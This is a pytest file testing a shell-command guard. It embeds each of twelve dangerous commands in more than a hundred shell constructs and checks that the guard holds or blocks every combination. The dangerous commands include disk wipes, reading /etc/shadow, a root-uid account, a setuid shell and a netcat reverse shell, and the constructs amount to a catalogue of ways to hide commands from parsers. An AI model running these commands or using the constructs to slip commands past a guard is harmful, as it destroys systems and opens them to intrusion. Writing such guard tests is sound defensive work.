"""No place in a line hides the command that stands there.

bashlex alone forgets the commands of thirteen of these places, tree-sitter those of others: here
they are all, each with twelve dangerous commands in it. None may pass in silence.
"""

import pytest

from bastion.command.extract import extract
from bastion.policy.command_rules import CommandRules, load
from bastion.policy.judge import judge
from bastion.rulepack import shipped_rules
from bastion.verdict import Verdict

DANGERS = [
    "rm -rf /usr",
    "mkfs.ext4 /dev/sdb",
    "dd if=/dev/zero of=/dev/sda",
    "cat /etc/shadow",
    "nvidia-smi --gpu-reset -i 0",
    "systemctl poweroff",
    "scancel -u alice",
    "kubectl delete ns ml",
    "useradd -o -u 0 x",
    "iptables -F",
    "nc -e /bin/sh 192.0.2.9 4444",
    "chmod u+s /bin/bash",
]

CONTEXTS = [
    "if a; then b; elif c; then d; elif e; then %s; fi",
    "if a; then b; elif c; then d; elif e; then f; else %s; fi",
    "if a; then b; elif c; then d; elif %s; then f; fi",
    "echo $(a\n%s)",
    "echo $(a\n%s\nb)",
    "echo `a\n%s`",
    "diff <(a\n%s) b",
    "tee >(a\n%s) < b",
    "echo ${x:-$(%s)}",
    'echo "${x:-$(%s)}"',
    "echo ${x:=$(%s)}",
    "echo ${x:+$(%s)}",
    "echo ${x:?$(%s)}",
    "echo ${x/$(%s)/y}",
    "echo ${x/y/$(%s)}",
    "echo ${a[$(%s)]}",
    "echo ${x:-`%s`}",
    'echo "${x:-`%s`}"',
    "echo ${x%%%%$(%s)}",
    "echo ${x%%%%`%s`}",
    "echo ${x##$(%s)}",
    "echo ${x:$(%s):1}",
    "echo ${x@Q}${y:-${z:-$(%s)}}",
    "cat <<E\n$(%s)\nE",
    "cat <<E\n`%s`\nE",
    "cat <<-E\n\t${x:-$(%s)}\n\tE",
    "cat <<A <<B\na\nA\n$(%s)\nB",
    "echo 'a'$(%s)''",
    "echo 'a'`%s`'b'",
    "cat 'a'<(%s)''",
    "echo ''$(%s)''",
    "echo \"a\"$(%s)'b'",
    "{fd}>o %s",
    "{fd}>/dev/null {other}>&1 %s",
    "time %s",
    "time -p %s",
    "coproc %s",
    "coproc NAME { %s; }",
    "! %s",
    "bash <<< '%s'",
    'bash <<< "%s"',
    "sh <<E\n%s\nE",
    "trap '%s' EXIT",
    "bash -c '%s'",
    "eval '%s'",
    "eval %s",
    "env -S '%s'",
    "env -S'%s'",
    "env --split-string='%s'",
    'a=(%s); "${a[@]}"',
    "a=$(%s)",
    "a=(1 $(%s))",
    "a+=($(%s))",
    "a[$(%s)]=1",
    "declare a=$(%s)",
    "export a=`%s`",
    "local a=$(%s)",
    "[[ -n $(%s) ]]",
    "[[ a =~ $(%s) ]]",
    '[ -n "$(%s)" ]',
    "(( $(%s) ))",
    "echo $(( $(%s) + 1 ))",
    "echo $[ $(%s) ]",
    "let x=$(%s)",
    "for ((i=$(%s); i<1; i++)); do a; done",
    "for i in $(%s); do a; done",
    "select i in `%s`; do a; done",
    "case $(%s) in a) b;; esac",
    "case a in $(%s)) b;; esac",
    "case a in a) b;; *) %s;; esac",
    "case a in a) b;& c) %s;;& esac",
    "while %s; do a; done",
    "until a; do %s; done",
    "f() { %s; }; f",
    "f() ( %s ); f",
    "function f { %s; }; f",
    "ls > $(%s)",
    "ls 2>&1 >`%s`",
    "ls <<< $(%s)",
    "( %s )",
    "{ %s; }",
    "a | { b; %s; }",
    "a |& %s",
    "a && b || %s",
    "a & %s &",
    "a # b\n%s",
    "a '#'; %s",
    "alias a='${'; %s",
    "x='${'; %s",
    "echo a'${'; %s",
    "awk -v x='${' 1; %s",
    "ls !(b*); %s",
    "cat <<'E'\n$(a)\nE\n%s",
    "cat <<\\E\n`a`\nE\n%s",
    "cat <<E; %s\na\nE",
    "cat <<E &&\na\nE\n%s",
    "shift $(($#-1)); %s",
    "echo $[4/2]; %s",
    "psql\n\\?\n%s",
    "a\\\nb; %s",
    "$(echo a; %s)",
    "$(%s)",
    "`%s`",
    '"$(%s)"',
    'echo "$(echo "$(%s)")"',
    "echo `echo \\`%s\\``",
    "xargs -I{} sh -c '%s' < a",
    "find . -exec sh -c '%s' \\;",
    "sudo -- sh -c '%s'",
    "ssh gpu-02 '%s'",
]


@pytest.fixture(scope="module")
def rules() -> CommandRules:
    """The rules as shipped."""
    return load(shipped_rules() / "commands")


@pytest.mark.parametrize("context", CONTEXTS, ids=lambda context: context.replace("\n", "¶"))
def test_no_context_hides_a_command(rules, context):
    """Twelve dangers in one place: each is held or blocked, and named unless the text is opaque.

    A reading that is opaque is held whatever stands in it; one that is not must name the command.
    """
    for danger in DANGERS:
        reading = extract(context % danger)
        assert judge(rules, reading).verdict in (Verdict.HOLD, Verdict.BLOCK), danger
        names = {command.program for command in reading.commands}
        assert reading.opaque or danger.split()[0] in names, danger


@pytest.mark.parametrize("context", CONTEXTS, ids=lambda context: context.replace("\n", "¶"))
def test_a_pair_of_contexts_hides_none_either(rules, context):
    """Each place inside one that bashlex forgets, and one inside it."""
    for outer in ("echo ${x:-$(%s)}", "echo $(a\n%s)", "cat <<E\n$(%s)\nE"):
        if ("E\n" in context and "<<E" in outer) or context.startswith("("):
            continue  # the same delimiter would end the outer document; `$((` is arithmetic
        inner = context % DANGERS[0]
        for text in (outer % inner, context % (outer % DANGERS[0])):
            assert judge(rules, extract(text)).verdict in (Verdict.HOLD, Verdict.BLOCK), text
